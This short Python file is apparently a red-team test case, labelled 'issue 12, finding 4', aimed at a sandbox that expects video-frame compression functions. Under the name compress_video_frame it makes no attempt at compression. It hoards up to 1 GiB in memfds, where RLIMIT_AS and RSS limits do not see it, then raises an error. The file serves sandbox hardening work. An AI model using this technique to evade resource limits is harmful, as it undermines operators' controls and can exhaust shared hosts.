"""Attack (issue 12, finding 4): hold memory where RLIMIT_AS and RSS do not see it,
in memfds (shmem), 16 MiB each (under RLIMIT_FSIZE), up to 1 GiB."""
import os


def compress_video_frame(frame, frame_index, config):
    chunk = b"\xa5" * (16 << 20)
    fds = []
    held = 0
    while held < (1 << 30):
        fd = os.memfd_create("hoard")
        held += os.write(fd, chunk)
        fds.append(fd)
    raise RuntimeError("held %d bytes in %d memfds" % (held, len(fds)))


def decompress_video_frame(compressed_data, frame_index, config):
    raise RuntimeError("unreachable")
